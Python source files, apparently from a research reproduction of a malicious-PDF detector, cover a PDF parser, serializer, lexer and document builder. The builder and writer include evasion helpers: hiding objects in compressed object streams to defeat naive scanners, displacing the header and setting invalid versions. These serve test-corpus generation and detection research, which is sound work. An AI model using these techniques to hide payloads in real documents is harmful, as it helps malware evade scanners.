        ef_tree = PDFDict({PDFName("Names"): PDFArray([PDFString(name), spec_ref])})
        names_dict[PDFName("EmbeddedFiles")] = self.document.add_object(ef_tree)
        return spec_ref

    def hide_in_object_stream(self, refs: List[PDFRef]) -> PDFRef:
        """Move objects into a compressed object stream (``/ObjStm``).

        A real-world hiding technique: the objects vanish from the
        top-level body and only exist inside a Flate-compressed
        container, defeating naive scanners.  Streams cannot be hidden
        this way (PDF forbids streams inside object streams).
        """
        from repro.pdf.writer import serialize_value

        doc = self.document
        chunks: List[bytes] = []
        pairs: List[str] = []
        offset = 0
        for ref in refs:
            entry = doc.store[ref]
            if isinstance(entry.value, PDFStream):
                raise ValueError("streams cannot live inside an object stream")
            data = serialize_value(entry.value)
            pairs.append(f"{ref.num} {offset}")
            chunks.append(data)
            offset += len(data) + 1
        header = " ".join(pairs).encode("ascii")
        payload = header + b"\n" + b" ".join(chunks)
        first = len(header) + 1

        container = PDFStream()
        container.set_decoded_data(payload, ["FlateDecode"])
        container.dictionary[PDFName("Type")] = PDFName("ObjStm")
        container.dictionary[PDFName("N")] = len(refs)
        container.dictionary[PDFName("First")] = first
        container_ref = doc.add_object(container)
        for ref in refs:
            doc.store.objects.pop(ref, None)
        return container_ref

    # -- header obfuscation ---------------------------------------------------------

    def obfuscate_header(
        self, displace: int = 0, version_text: Optional[str] = None
    ) -> None:
        """Displace the ``%PDF`` header and/or use an invalid version."""
        if displace > 0:
            junk = (b"%" + b"Z" * 30 + b"\n") * max(1, displace // 32)
            self.document.header_prefix = junk[:displace]
        if version_text is not None:
            self.document.header_version_text = version_text

    # -- output ----------------------------------------------------------------------

    def build(self) -> PDFDocument:
        return self.document

    def to_bytes(self) -> bytes:
        return self.document.to_bytes()
