"""PDF substrate: object model, tokenizer, filters, parser, writer,
encryption and a high-level document builder.

This package implements the subset of ISO 32000 / the PDF Reference
(sixth edition) that the paper's front-end needs: indirect objects and
reference chains, name `#xx` escapes, stream filter cascades, cross
reference tables and streams, incremental updates, document triggers
(``/OpenAction``, ``/AA``, ``/Names`` JavaScript trees) and the RC4
standard security handler (for owner-password removal).
"""

from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFRef,
    PDFStream,
    PDFString,
)
from repro.pdf.parser import PDFParseError, PDFParser, parse_pdf
from repro.pdf.writer import write_pdf
from repro.pdf.document import PDFDocument
from repro.pdf.builder import DocumentBuilder

__all__ = [
    "DocumentBuilder",
    "PDFArray",
    "PDFDict",
    "PDFDocument",
    "PDFName",
    "PDFNull",
    "PDFParseError",
    "PDFParser",
    "PDFRef",
    "PDFStream",
    "PDFString",
    "parse_pdf",
    "write_pdf",
]
