"""PDF document parser.

Supports the features the paper's front-end exercises:

* header validation under the 1,024-byte rule (static feature F2 needs
  to know *where* the header sits and whether its version is valid);
* classic cross-reference tables with chained ``/Prev`` sections;
* cross-reference streams and compressed object streams (``/ObjStm``);
* a recovery scan that finds every ``N G obj`` in the byte stream, so
  malformed or deliberately obfuscated documents still parse (malicious
  samples routinely break their xref on purpose);
* stream payload extraction tolerant of wrong ``/Length`` values.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro import limits as limits_mod
from repro.limits import ResourceLimitExceeded, ScanBudget, ScanLimits
from repro.obs import profile as profile_mod
from repro.pdf.lexer import Lexer, LexerError, Token, TokenType
from repro.pdf.objects import (
    IndirectObject,
    ObjectStore,
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFObject,
    PDFRef,
    PDFStream,
    PDFString,
)

_OBJ_RE = re.compile(rb"(\d{1,10})\s+(\d{1,5})\s+obj\b")
_HEADER_RE = re.compile(rb"%PDF-(\d+)\.(\d+)")
_VALID_VERSIONS = {
    (1, 0), (1, 1), (1, 2), (1, 3), (1, 4), (1, 5), (1, 6), (1, 7), (2, 0),
}


class PDFParseError(ValueError):
    """Raised when a document cannot be parsed at all."""


@dataclass
class HeaderInfo:
    """Where and what the ``%PDF-x.y`` header is.

    ``offset`` is -1 when no header exists anywhere in the first 1,024
    bytes (the limit the PDF Reference allows).
    """

    offset: int = -1
    version: Optional[Tuple[int, int]] = None

    @property
    def present(self) -> bool:
        return self.offset >= 0

    @property
    def at_start(self) -> bool:
        return self.offset == 0

    @property
    def version_valid(self) -> bool:
        return self.version in _VALID_VERSIONS

    @property
    def obfuscated(self) -> bool:
        """The paper's F2: header missing, displaced, or bad version."""
        return not (self.at_start and self.version_valid)


@dataclass
class ParsedPDF:
    """The result of parsing: object store + trailer + diagnostics."""

    data: bytes
    store: ObjectStore = field(default_factory=ObjectStore)
    trailer: PDFDict = field(default_factory=PDFDict)
    header: HeaderInfo = field(default_factory=HeaderInfo)
    warnings: List[str] = field(default_factory=list)
    used_recovery_scan: bool = False

    @property
    def root(self) -> PDFDict:
        root = self.store.deep_resolve(self.trailer.get("Root", PDFNull))
        return root if isinstance(root, PDFDict) else PDFDict()

    @property
    def is_encrypted(self) -> bool:
        return "Encrypt" in self.trailer

    def resolve(self, value: PDFObject) -> PDFObject:
        return self.store.deep_resolve(value)


class PDFParser:
    """Parses a byte buffer into a :class:`ParsedPDF`.

    Parsing is budgeted: the parser enforces the enclosing scan's
    :class:`~repro.limits.ScanBudget` when one is active, else builds a
    private one from ``limits`` (default: :data:`~repro.limits.DEFAULT_LIMITS`)
    so even standalone ``parse_pdf`` calls are bounded.  The deadline is
    checked *inside* the per-object loops — a hostile document aborts
    its own parse instead of hanging a worker that cannot be killed.
    """

    #: Lexer class used for all tokenization.  The front-end benchmark
    #: subclasses the parser with the frozen reference lexer to measure
    #: (and differentially verify) the tokenizer rework.
    lexer_cls = Lexer

    #: When True (default), :meth:`_recovery_scan` only regex-scans the
    #: gaps between byte ranges already consumed by successfully parsed
    #: objects.  The benchmark subclass sets this False to reproduce the
    #: old whole-buffer scan.
    recovery_skips_covered = True

    def __init__(self, data: bytes, limits: Optional[ScanLimits] = None) -> None:
        if not isinstance(data, (bytes, bytearray)):
            raise TypeError("PDFParser expects bytes")
        # bytes(data) would copy even when the caller already holds an
        # immutable buffer — on a 20MB document that copy alone is
        # measurable, so only materialise for bytearray input.
        self.data = data if isinstance(data, bytes) else bytes(data)
        self.result = ParsedPDF(data=self.data)
        #: Byte spans consumed by successfully parsed indirect objects,
        #: so the recovery scan can skip them.
        self._covered: List[Tuple[int, int]] = []
        active = limits_mod.active()
        if limits is None and active is not None:
            self.budget = active
        else:
            self.budget = ScanBudget(limits)

    def _make_lexer(self, data: bytes, pos: int = 0) -> Lexer:
        """Build a lexer whose tolerance warnings land in the parse report."""
        return self.lexer_cls(data, pos, warnings=self.result.warnings)

    # -- public entry --------------------------------------------------

    def parse(self) -> ParsedPDF:
        with profile_mod.phase("parse"):
            return self._parse_profiled()

    def _parse_profiled(self) -> ParsedPDF:
        if not self.data:
            raise PDFParseError("empty document")
        self._parse_header()
        with profile_mod.phase("xref-resolve"):
            offsets = self._collect_xref_offsets()
        for offset in offsets:
            self.budget.check_deadline()
            self._parse_object_at(offset)
        # Recovery scan: pick up objects the xref missed (or everything,
        # when there was no usable xref).  Obfuscated malicious samples
        # depend on reader tolerance here.  Any object it contributes —
        # even alongside a partially working xref — means the document
        # hides payloads from xref-faithful readers, so the flag is set
        # whenever recovery added something, not only when the xref was
        # completely dead.
        with profile_mod.phase("recovery-scan"):
            found = self._recovery_scan()
        if found:
            self.result.used_recovery_scan = True
        if not self.result.store.objects:
            raise PDFParseError("no indirect objects found")
        self._expand_object_streams()
        if not self.result.trailer:
            self._scan_trailers()
        if not self.result.trailer:
            self._infer_trailer()
        return self.result

    # -- header ----------------------------------------------------------

    def _parse_header(self) -> None:
        window = self.data[:1024]
        match = _HEADER_RE.search(window)
        if match is None:
            self.result.header = HeaderInfo()
            self.result.warnings.append("no %PDF header in first 1024 bytes")
            return
        version = (int(match.group(1)), int(match.group(2)))
        self.result.header = HeaderInfo(offset=match.start(), version=version)
        if match.start() != 0:
            self.result.warnings.append(
                f"header displaced to offset {match.start()}"
            )
        if version not in _VALID_VERSIONS:
            self.result.warnings.append(f"invalid PDF version {version}")

    # -- xref chain --------------------------------------------------------

    def _collect_xref_offsets(self) -> List[int]:
        """Follow startxref → xref chain, returning object offsets."""
        tail = self.data[-2048:]
        idx = tail.rfind(b"startxref")
        if idx < 0:
            return []
        lexer = self._make_lexer(self.data, len(self.data) - len(tail) + idx)
        try:
            lexer.expect_keyword("startxref")
            token = lexer.next_token()
        except LexerError:
            return []
        if token.type is not TokenType.NUMBER or not isinstance(token.value, int):
            return []
        offsets: List[int] = []
        seen_sections: set[int] = set()
        next_offset: Optional[int] = token.value
        while next_offset is not None and 0 <= next_offset < len(self.data):
            if next_offset in seen_sections:
                break
            seen_sections.add(next_offset)
            next_offset = self._parse_xref_section(next_offset, offsets)
        return offsets

    def _parse_xref_section(
        self, offset: int, offsets: List[int]
    ) -> Optional[int]:
        lexer = self._make_lexer(self.data, offset)
        try:
            if lexer.try_keyword("xref"):
                return self._parse_xref_table(lexer, offsets)
            return self._parse_xref_stream(offset, offsets)
        except (LexerError, PDFParseError) as exc:
            self.result.warnings.append(f"bad xref section at {offset}: {exc}")
            return None

    #: Bytes one classic xref entry occupies at minimum ("NNNNNNNNNN
    #: GGGGG n" plus separators is 20 by spec; 18 tolerates sloppy EOLs).
    _XREF_ENTRY_MIN_BYTES = 18

    def _parse_xref_table(self, lexer: Lexer, offsets: List[int]) -> Optional[int]:
        while True:
            sub_pos = lexer.pos
            pair = lexer.read_integer_pair()
            if pair is None:
                break
            start, count = pair
            # The entry count is attacker-controlled: a subsection
            # claiming 2^31 entries would tokenize past the end of the
            # buffer for hours.  Clamp against the bytes actually left.
            remaining = max(0, len(self.data) - lexer.pos)
            max_entries = remaining // self._XREF_ENTRY_MIN_BYTES + 1
            if count > max_entries:
                self.result.warnings.append(
                    f"xref subsection at offset {sub_pos} (first object "
                    f"{start}) claims {count} entries; clamped to "
                    f"{max_entries} (file too small)"
                )
                count = max_entries
            self.budget.check_object_count(count)
            for index in range(count):
                if index % 1024 == 0:
                    self.budget.check_deadline()
                entry_off = lexer.next_token()
                entry_gen = lexer.next_token()
                entry_kind = lexer.next_token()
                if entry_kind.type is TokenType.EOF:
                    break
                if (
                    entry_kind.type is TokenType.KEYWORD
                    and entry_kind.value == "n"
                    and isinstance(entry_off.value, int)
                ):
                    offsets.append(entry_off.value)
        lexer.expect_keyword("trailer")
        trailer = self._parse_value(lexer)
        if isinstance(trailer, PDFDict):
            for key, value in trailer.items():
                self.result.trailer.setdefault(key, value)
            prev = trailer.get("Prev")
            if isinstance(prev, int):
                return prev
        return None

    def _parse_xref_stream(self, offset: int, offsets: List[int]) -> Optional[int]:
        obj = self._parse_indirect_at(offset)
        if obj is None or not isinstance(obj.value, PDFStream):
            raise PDFParseError("expected xref stream")
        stream = obj.value
        info = stream.dictionary
        if str(info.get("Type", "")) != "XRef":
            raise PDFParseError("stream is not /Type /XRef")
        widths = [int(w) for w in info.get("W", PDFArray())]
        if len(widths) != 3:
            raise PDFParseError("bad /W array")
        size = int(info.get("Size", 0))
        index = info.get("Index")
        if isinstance(index, PDFArray) and len(index) % 2 == 0:
            sections = [
                (int(index[i]), int(index[i + 1])) for i in range(0, len(index), 2)
            ]
        else:
            sections = [(0, size)]
        data = stream.decoded_data()
        row_len = sum(widths)
        pos = 0

        def read_field(row: bytes, start: int, width: int, default: int) -> int:
            if width == 0:
                return default
            return int.from_bytes(row[start : start + width], "big")

        for _first, count in sections:
            self.budget.check_deadline()
            for _i in range(count):
                row = data[pos : pos + row_len]
                pos += row_len
                if len(row) < row_len:
                    break
                kind = read_field(row, 0, widths[0], 1)
                f2 = read_field(row, widths[0], widths[1], 0)
                if kind == 1:
                    offsets.append(f2)
                # kind 2 entries live in object streams, expanded later.
        for key, value in info.items():
            if key not in ("W", "Index", "Type", "Length", "Filter"):
                self.result.trailer.setdefault(key, value)
        self._store_add(obj)
        prev = info.get("Prev")
        return int(prev) if isinstance(prev, int) else None

    # -- object parsing ------------------------------------------------------

    def _store_add(self, obj: IndirectObject) -> None:
        """Add to the store, enforcing the object-count budget."""
        self.result.store.add(obj)
        self.budget.check_object_count(len(self.result.store.objects))

    def _parse_object_at(self, offset: int) -> bool:
        obj = self._parse_indirect_at(offset)
        if obj is None:
            return False
        if obj.ref not in self.result.store:
            self._store_add(obj)
        return True

    def _parse_indirect_at(self, offset: int) -> Optional[IndirectObject]:
        if not (0 <= offset < len(self.data)):
            return None
        lexer = self._make_lexer(self.data, offset)
        try:
            num_tok = lexer.next_token()
            gen_tok = lexer.next_token()
            if num_tok.type is not TokenType.NUMBER or gen_tok.type is not TokenType.NUMBER:
                return None
            lexer.expect_keyword("obj")
            value = self._parse_value(lexer)
            value = self._maybe_stream(lexer, value)
            # Everything the lexer consumed belongs to this object; the
            # recovery scan need not re-scan it.
            self._covered.append((offset, lexer.pos))
            return IndirectObject(int(num_tok.value), int(gen_tok.value), value)
        except LexerError as exc:
            self.result.warnings.append(f"bad object at {offset}: {exc}")
            return None

    def _maybe_stream(self, lexer: Lexer, value: PDFObject) -> PDFObject:
        """If ``stream`` follows a dict, slurp the payload."""
        if not isinstance(value, PDFDict):
            return value
        saved = lexer.pos
        if not lexer.try_keyword("stream"):
            lexer.pos = saved
            return value
        lexer.skip_eol()
        start = lexer.pos
        length = value.get("Length")
        if isinstance(length, PDFRef):
            resolved = self.result.store.deep_resolve(length)
            length = resolved if isinstance(resolved, int) else None
        end: Optional[int] = None
        if isinstance(length, int) and length >= 0:
            candidate = start + length
            after = self.data[candidate : candidate + 20]
            if b"endstream" in after:
                end = candidate
        if end is None:
            # /Length missing or a lie: search for the terminator.
            idx = self.data.find(b"endstream", start)
            if idx < 0:
                raise LexerError("unterminated stream", start)
            end = idx
            # Strip the EOL the writer put before endstream.
            while end > start and self.data[end - 1] in b"\r\n":
                end -= 1
        raw = self.data[start:end]
        lexer.pos = self.data.find(b"endstream", end) + len(b"endstream")
        return PDFStream(value, raw)

    def _parse_value(self, lexer: Lexer, depth: int = 0) -> PDFObject:
        token = lexer.next_token()
        return self._parse_value_from(lexer, token, depth)

    def _parse_value_from(self, lexer: Lexer, token: Token, depth: int = 0) -> PDFObject:
        if token.type is TokenType.NUMBER:
            return self._number_or_ref(lexer, token)
        if token.type is TokenType.NAME:
            return PDFName.from_raw(str(token.value))
        if token.type is TokenType.STRING:
            return PDFString(token.value, hex_form=False)
        if token.type is TokenType.HEX_STRING:
            return PDFString(token.value, hex_form=True)
        if token.type is TokenType.ARRAY_OPEN:
            # Containers recurse ~2 Python frames per level, so a few
            # hundred nested brackets would hit RecursionError long
            # before any byte budget; bound the nesting instead.
            self.budget.check_nesting_depth(depth)
            array = PDFArray()
            while True:
                item = lexer.next_token()
                if item.type is TokenType.ARRAY_CLOSE:
                    return array
                if item.type is TokenType.EOF:
                    raise LexerError("unterminated array", token.pos)
                array.append(self._parse_value_from(lexer, item, depth + 1))
        if token.type is TokenType.DICT_OPEN:
            self.budget.check_nesting_depth(depth)
            result = PDFDict()
            while True:
                key = lexer.next_token()
                if key.type is TokenType.DICT_CLOSE:
                    return result
                if key.type is TokenType.EOF:
                    raise LexerError("unterminated dictionary", token.pos)
                if key.type is not TokenType.NAME:
                    raise LexerError(
                        f"dictionary key must be a name, got {key.value!r}", key.pos
                    )
                result[PDFName.from_raw(str(key.value))] = self._parse_value(
                    lexer, depth + 1
                )
        if token.type is TokenType.KEYWORD:
            word = str(token.value)
            if word == "true":
                return True
            if word == "false":
                return False
            if word == "null":
                return PDFNull
            raise LexerError(f"unexpected keyword {word!r}", token.pos)
        raise LexerError(f"unexpected token {token.type}", token.pos)

    def _number_or_ref(self, lexer: Lexer, token: Token) -> PDFObject:
        """Disambiguate ``N`` from ``N G R`` with two-token lookahead."""
        if not isinstance(token.value, int) or token.value < 0:
            return token.value
        saved = lexer.pos
        second = lexer.next_token()
        if second.type is TokenType.NUMBER and isinstance(second.value, int):
            third = lexer.next_token()
            if third.type is TokenType.KEYWORD and third.value == "R":
                return PDFRef(token.value, second.value)
        lexer.pos = saved
        return token.value

    # -- recovery scan --------------------------------------------------------

    #: An ``N G obj`` header is at most ~20 bytes of digits/whitespace;
    #: searching this far past a gap still catches headers that start
    #: inside the gap but extend into covered territory.
    _RECOVERY_GAP_MARGIN = 24

    def _recovery_gaps(self) -> List[Tuple[int, int]]:
        """Byte ranges no successfully parsed object consumed.

        On a well-formed document the xref pass covers nearly the whole
        buffer, so the recovery regex only touches the slack between
        objects (header, xref table, padding between spans) instead of
        re-scanning — and re-lexing hits inside — multi-megabyte stream
        payloads it already parsed.
        """
        n = len(self.data)
        if not (self.recovery_skips_covered and self._covered):
            return [(0, n)]
        gaps: List[Tuple[int, int]] = []
        prev = 0
        for lo, hi in sorted(self._covered):
            if lo > prev:
                gaps.append((prev, lo))
            if hi > prev:
                prev = hi
        if prev < n:
            gaps.append((prev, n))
        return gaps

    def _recovery_scan(self) -> bool:
        found = False
        data, n = self.data, len(self.data)
        for gap_start, gap_end in self._recovery_gaps():
            limit = gap_end if gap_end >= n else min(n, gap_end + self._RECOVERY_GAP_MARGIN)
            for match in _OBJ_RE.finditer(data, gap_start, limit):
                if match.start() >= gap_end:
                    break
                self.budget.check_deadline()
                num, gen = int(match.group(1)), int(match.group(2))
                ref = PDFRef(num, gen)
                if ref in self.result.store:
                    continue
                obj = self._parse_indirect_at(match.start())
                if obj is not None and obj.num == num and obj.gen == gen:
                    self._store_add(obj)
                    found = True
        return found

    # -- object streams ---------------------------------------------------------

    def _expand_object_streams(self) -> None:
        for entry in list(self.result.store):
            self.budget.check_deadline()
            value = entry.value
            if not isinstance(value, PDFStream):
                continue
            if str(value.dictionary.get("Type", "")) != "ObjStm":
                continue
            try:
                self._expand_one_objstm(value)
            except ResourceLimitExceeded:
                # A blown budget is the whole scan's problem, not a
                # single corrupt container's — never swallow it.
                raise
            except Exception as exc:  # noqa: BLE001 - diagnostics only
                self.result.warnings.append(
                    f"bad object stream {entry.num} {entry.gen}: {exc}"
                )
                continue
            # The container is spent: its objects now live in the store
            # directly, so keeping it would shadow later edits to them
            # (e.g. instrumentation) with stale copies on re-serialise.
            self.result.store.objects.pop(entry.ref, None)

    def _expand_one_objstm(self, stream: PDFStream) -> None:
        count = int(stream.dictionary.get("N", 0))
        first = int(stream.dictionary.get("First", 0))
        payload = stream.decoded_data()
        lexer = self._make_lexer(payload)
        pairs: List[Tuple[int, int]] = []
        for _ in range(count):
            pair = lexer.read_integer_pair()
            if pair is None:
                break
            pairs.append(pair)
        for index, (num, rel_offset) in enumerate(pairs):
            if index % 256 == 0:
                self.budget.check_deadline()
            ref = PDFRef(num, 0)
            if ref in self.result.store:
                continue
            inner = self._make_lexer(payload, first + rel_offset)
            try:
                value = self._parse_value(inner)
            except LexerError as exc:
                self.result.warnings.append(f"bad compressed object {num}: {exc}")
                continue
            self._store_add(IndirectObject(num, 0, value))

    # -- trailer fallbacks -----------------------------------------------------------

    def _scan_trailers(self) -> None:
        for match in re.finditer(rb"\btrailer\b", self.data):
            self.budget.check_deadline()
            lexer = self._make_lexer(self.data, match.end())
            try:
                value = self._parse_value(lexer)
            except LexerError:
                continue
            if isinstance(value, PDFDict):
                for key, val in value.items():
                    self.result.trailer.setdefault(key, val)

    def _infer_trailer(self) -> None:
        """Last resort: find a /Type /Catalog object to act as Root."""
        for entry in self.result.store:
            value = entry.value
            if isinstance(value, PDFDict) and str(value.get("Type", "")) == "Catalog":
                self.result.trailer["Root"] = entry.ref
                self.result.trailer["Size"] = len(self.result.store) + 1
                return
        self.result.warnings.append("no trailer and no catalog found")


def parse_pdf(data: bytes, limits: Optional[ScanLimits] = None) -> ParsedPDF:
    """Parse ``data`` into a :class:`ParsedPDF` (convenience wrapper)."""
    return PDFParser(data, limits=limits).parse()
