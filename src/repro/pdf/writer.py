"""PDF serializer.

Writes an :class:`~repro.pdf.objects.ObjectStore` + trailer back into a
byte buffer with a classic cross-reference table.  Obfuscation knobs
(header displacement, invalid versions) exist because the corpus
generator needs to *produce* the evasions the paper's static features
detect.
"""

from __future__ import annotations

import io
from typing import Iterable, Optional, Tuple

from repro.pdf.objects import (
    ObjectStore,
    PDFArray,
    PDFDict,
    PDFName,
    PDFNullType,
    PDFRef,
    PDFStream,
    PDFString,
)


def serialize_value(value: object) -> bytes:
    """Serialize one PDF object (not including ``obj``/``endobj``)."""
    if isinstance(value, bool):
        return b"true" if value else b"false"
    if isinstance(value, int):
        return str(value).encode("ascii")
    if isinstance(value, float):
        text = f"{value:.6f}".rstrip("0").rstrip(".")
        return (text or "0").encode("ascii")
    if isinstance(value, PDFNullType):
        return b"null"
    if isinstance(value, PDFName):
        return b"/" + value.raw.encode("latin-1")
    if isinstance(value, PDFString):
        return _serialize_string(value)
    if isinstance(value, PDFRef):
        return f"{value.num} {value.gen} R".encode("ascii")
    if isinstance(value, PDFArray):
        inner = b" ".join(serialize_value(item) for item in value)
        return b"[" + inner + b"]"
    if isinstance(value, PDFStream):
        return _serialize_stream(value)
    if isinstance(value, PDFDict):
        return _serialize_dict(value)
    if isinstance(value, str):  # tolerate plain strings as names-in-waiting
        return _serialize_string(PDFString(value))
    raise TypeError(f"cannot serialize {type(value).__name__}")


def _serialize_string(value: PDFString) -> bytes:
    if value.hex_form:
        return b"<" + bytes(value).hex().upper().encode("ascii") + b">"
    out = bytearray(b"(")
    for byte in bytes(value):
        if byte in b"()\\":
            out.append(ord("\\"))
            out.append(byte)
        elif byte == 0x0A:
            out.extend(b"\\n")
        elif byte == 0x0D:
            out.extend(b"\\r")
        elif byte < 0x20 or byte > 0x7E:
            out.extend(b"\\%03o" % byte)
        else:
            out.append(byte)
    out.append(ord(")"))
    return bytes(out)


def _serialize_dict(value: PDFDict) -> bytes:
    parts = [b"<<"]
    for key, item in value.items():
        name = key if isinstance(key, PDFName) else PDFName(str(key))
        parts.append(b"/" + name.raw.encode("latin-1") + b" " + serialize_value(item))
    parts.append(b">>")
    return b" ".join(parts)


def _serialize_stream(stream: PDFStream) -> bytes:
    info = PDFDict(stream.dictionary)
    info["Length"] = len(stream.raw_data)
    head = _serialize_dict(info)
    return head + b"\nstream\n" + stream.raw_data + b"\nendstream"


def write_pdf(
    store: ObjectStore,
    trailer: PDFDict,
    version: Tuple[int, int] = (1, 4),
    header_prefix: Optional[bytes] = None,
    header_version_text: Optional[str] = None,
) -> bytes:
    """Serialize a full document.

    ``header_prefix`` shifts the ``%PDF`` header away from byte 0 (an
    obfuscation) and ``header_version_text`` overrides the version
    digits (e.g. ``"9.9"`` — an invalid version, another obfuscation).
    """
    buf = io.BytesIO()
    if header_prefix:
        buf.write(header_prefix)
    version_text = header_version_text or f"{version[0]}.{version[1]}"
    buf.write(f"%PDF-{version_text}\n".encode("ascii"))
    buf.write(b"%\xe2\xe3\xcf\xd3\n")  # binary-marker comment

    offsets: dict[Tuple[int, int], int] = {}
    for entry in store:
        offsets[(entry.num, entry.gen)] = buf.tell()
        buf.write(f"{entry.num} {entry.gen} obj\n".encode("ascii"))
        buf.write(serialize_value(entry.value))
        buf.write(b"\nendobj\n")

    xref_offset = buf.tell()
    max_num = max((num for num, _gen in offsets), default=0)
    buf.write(b"xref\n")
    buf.write(f"0 {max_num + 1}\n".encode("ascii"))
    buf.write(b"0000000000 65535 f \n")
    for num in range(1, max_num + 1):
        gens = [g for (n, g) in offsets if n == num]
        if gens:
            gen = min(gens)
            buf.write(f"{offsets[(num, gen)]:010d} {gen:05d} n \n".encode("ascii"))
        else:
            buf.write(b"0000000000 65535 f \n")

    out_trailer = PDFDict(trailer)
    out_trailer["Size"] = max_num + 1
    out_trailer.pop("Prev", None)
    buf.write(b"trailer\n")
    buf.write(_serialize_dict(out_trailer))
    buf.write(f"\nstartxref\n{xref_offset}\n".encode("ascii"))
    buf.write(b"%%EOF\n")
    return buf.getvalue()


def write_incremental_update(
    original: bytes,
    store: ObjectStore,
    trailer: PDFDict,
    changed_refs: Iterable[PDFRef],
) -> bytes:
    """Append an incremental update carrying only ``changed_refs``.

    The original bytes stay untouched (the PDF idiom for modifying
    signed or large documents); a new body section, cross-reference
    table and trailer with ``/Prev`` are appended.  Readers resolve the
    newest definition of each object first, so the updated objects
    shadow the originals.
    """
    refs = sorted(set(changed_refs), key=lambda r: (r.num, r.gen))
    buf = io.BytesIO()
    buf.write(original)
    if not original.endswith(b"\n"):
        buf.write(b"\n")

    offsets: dict[PDFRef, int] = {}
    for ref in refs:
        entry = store.objects.get(ref)
        if entry is None:
            continue
        offsets[ref] = buf.tell()
        buf.write(f"{entry.num} {entry.gen} obj\n".encode("ascii"))
        buf.write(serialize_value(entry.value))
        buf.write(b"\nendobj\n")

    xref_offset = buf.tell()
    buf.write(b"xref\n")
    # One subsection per contiguous run of object numbers.
    run: list[PDFRef] = []
    runs: list[list[PDFRef]] = []
    for ref in refs:
        if ref not in offsets:
            continue
        if run and ref.num == run[-1].num + 1:
            run.append(ref)
        else:
            if run:
                runs.append(run)
            run = [ref]
    if run:
        runs.append(run)
    for subsection in runs:
        buf.write(f"{subsection[0].num} {len(subsection)}\n".encode("ascii"))
        for ref in subsection:
            buf.write(f"{offsets[ref]:010d} {ref.gen:05d} n \n".encode("ascii"))

    prev_offset = _find_startxref(original)
    out_trailer = PDFDict(trailer)
    out_trailer["Size"] = store.next_num()
    if prev_offset is not None:
        out_trailer["Prev"] = prev_offset
    buf.write(b"trailer\n")
    buf.write(_serialize_dict(out_trailer))
    buf.write(f"\nstartxref\n{xref_offset}\n".encode("ascii"))
    buf.write(b"%%EOF\n")
    return buf.getvalue()


def _find_startxref(data: bytes) -> Optional[int]:
    idx = data.rfind(b"startxref")
    if idx < 0:
        return None
    tail = data[idx + len(b"startxref") :].split()
    if not tail:
        return None
    try:
        return int(tail[0])
    except ValueError:
        return None
