"""Tokenizer for PDF syntax.

Operates on bytes and exposes a small pull-style API used by the
parser.  Whitespace and comments are skipped; literal strings handle
escapes and balanced parentheses; names keep their raw spelling so the
``#xx`` obfuscation feature can observe it.

The tokenizer sits on the front-end hot path (every object of every
document goes through it), so it is written to be allocation-lean:

* :class:`Token` is a ``__slots__`` class holding exactly
  ``(type, value, pos)`` — no per-token ``raw`` byte slice is
  materialised (nothing consumed it, and on a big document those
  slices dominated the parse-phase allocation profile);
* byte classification uses precomputed 256-entry lookup tables instead
  of per-byte ``chr()`` calls or ``in bytes`` membership scans;
* name/keyword/number runs and literal-string bodies are located with
  C-speed regex/`find` scans and copied as single slices rather than
  byte-at-a-time Python loops.

Malformed syntax is *tolerated* the way real readers tolerate it,
because a lexer that raises on junk rewards malformed-syntax evasion
by silently dropping whole objects during recovery parsing:

* a number run that is not a valid number is truncated to its longest
  valid numeric prefix (``2-3`` lexes as ``2`` then ``-3``); a run
  with no valid prefix (a bare ``+``) is skipped entirely;
* non-hex bytes inside a hex string are skipped (Adobe ignores them).

Both paths record a human-readable note in :attr:`Lexer.warnings` so
the tolerance becomes *parse evidence* — the parser threads its
result's warning list into every lexer it creates.  The frozen
pre-optimisation implementation lives in
:mod:`repro.pdf._lexer_reference` for differential testing.
"""

from __future__ import annotations

import re
from enum import Enum, auto
from typing import List, Optional, Tuple

WHITESPACE = b"\x00\t\n\x0c\r "
DELIMITERS = b"()<>[]{}/%"

#: Cap on per-lexer tolerance warnings: a hostile document could
#: otherwise mint one warning per byte and balloon the parse report.
MAX_LEXER_WARNINGS = 100


class TokenType(Enum):
    NUMBER = auto()
    NAME = auto()
    STRING = auto()
    HEX_STRING = auto()
    ARRAY_OPEN = auto()
    ARRAY_CLOSE = auto()
    DICT_OPEN = auto()
    DICT_CLOSE = auto()
    KEYWORD = auto()  # obj, endobj, stream, R, true, false, null, ...
    EOF = auto()


# Enum attribute lookups are surprisingly costly on a hot path; bind
# the members once at module level for the scanner's internal use.
_NUMBER = TokenType.NUMBER
_NAME = TokenType.NAME
_STRING = TokenType.STRING
_HEX_STRING = TokenType.HEX_STRING
_ARRAY_OPEN = TokenType.ARRAY_OPEN
_ARRAY_CLOSE = TokenType.ARRAY_CLOSE
_DICT_OPEN = TokenType.DICT_OPEN
_DICT_CLOSE = TokenType.DICT_CLOSE
_KEYWORD = TokenType.KEYWORD
_EOF = TokenType.EOF


class Token:
    """One lexed token: ``(type, value, pos)``.

    Deliberately *not* a dataclass and deliberately without the old
    ``raw`` byte-slice field — one of these is allocated per token on
    the front-end hot path.
    """

    __slots__ = ("type", "value", "pos")

    def __init__(self, type: TokenType, value: object, pos: int) -> None:
        self.type = type
        self.value = value
        self.pos = pos

    def __repr__(self) -> str:
        return f"Token({self.type.name}, {self.value!r}, pos={self.pos})"

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, Token):
            return NotImplemented
        return (
            self.type is other.type
            and self.value == other.value
            and self.pos == other.pos
        )

    def __hash__(self) -> int:
        return hash((self.type, str(self.value), self.pos))


class LexerError(ValueError):
    """Raised on malformed PDF syntax."""

    def __init__(self, message: str, pos: int) -> None:
        super().__init__(f"{message} at byte {pos}")
        self.pos = pos


# -- byte-class lookup tables -------------------------------------------------

#: 1 where the byte is PDF whitespace.
_IS_WS = bytes(1 if bytes([b]) in WHITESPACE else 0 for b in range(256))
#: 1 where the byte is *regular* (neither whitespace nor delimiter).
_IS_REGULAR = bytes(
    0 if (bytes([b]) in WHITESPACE or bytes([b]) in DELIMITERS) else 1
    for b in range(256)
)
#: 1 where the byte may appear inside a number run.
_IS_NUMCHAR = bytes(1 if bytes([b]) in b"0123456789.+-eE" else 0 for b in range(256))
#: Nibble value of a hex digit, or -1.
_HEX_VAL = tuple(
    int(chr(b), 16) if chr(b) in "0123456789abcdefABCDEF" else -1 for b in range(256)
